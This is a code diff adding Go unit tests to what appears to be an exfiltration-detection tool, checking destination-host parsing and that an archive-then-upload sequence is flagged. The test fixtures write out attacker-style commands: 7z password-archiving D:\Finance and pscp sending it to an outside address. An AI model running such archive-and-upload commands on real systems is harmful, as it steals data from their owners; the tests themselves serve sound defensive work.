@@ -280,3 +280,40 @@ func TestBitsUploadJob(t *testing.T) {
 		t.Errorf("items %+v, want the upload of C:\\t\\o.zip on WS1 alone", e.Items)
 	}
 }
+
+func TestDestHost(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"https://bn1304.storage.live.com/users/x/", "bn1304.storage.live.com"},
+		{"ftp://user:pw@203.0.113.5/", "203.0.113.5"},
+		{"https://u@Files.Example.net:8443/a@b", "files.example.net"},
+		{"user@203.0.113.5:/tmp/", "203.0.113.5"},
+		{"bob@fileserver:~/", "fileserver"},
+		{"bn1304.storage.live.com:443", "bn1304.storage.live.com"},
+		{"fileserver:445", "fileserver"},
+		{"[2001:db8::1]:443", "2001:db8::1"},
+		{"mega:exfil/2024", "mega:"},
+		{"remote:", "remote:"},
+		{"mega.nz:/Root/x", "mega.nz"},
+	} {
+		if got := destHost(tc.in); got != tc.want {
+			t.Errorf("destHost(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+// An scp upload of an archive, and its connection to the address the
+// target names (user@ stripped), are linked: strong.
+func TestSCPUploadConnected(t *testing.T) {
+	_, e := annotate(t, nil,
+		proc("WS1", 0, `C:\x\7z.exe`, `7z a -pX C:\t\o.7z D:\Finance`, `C:\`),
+		proc("WS1", 5, `C:\x\pscp.exe`, `pscp -pw X o.7z bob@203.0.113.5:/tmp/`, `C:\t\`),
+		det("WS1", 3, 5, []string{"exfiltration"}, "Image", `C:\x\pscp.exe`, "DestinationIp", "203.0.113.5", "DestinationPort", "22", "Initiated", "true"),
+	)
+	up := find(e, result.ExposureExfiltrated, "scp")
+	if up == nil || up.Strength != "strong" || !slices.Equal(up.Sources, []string{`C:\t\o.7z`}) || !strings.Contains(up.Why, "a connection to the destination was logged") {
+		t.Errorf("scp item %+v, want a strong upload of C:\\t\\o.7z with its connection", up)
+	}
+	if !slices.Equal(e.Destinations, []string{"203.0.113.5"}) {
+		t.Errorf("destinations %q, want the address alone", e.Destinations)
+	}
+}
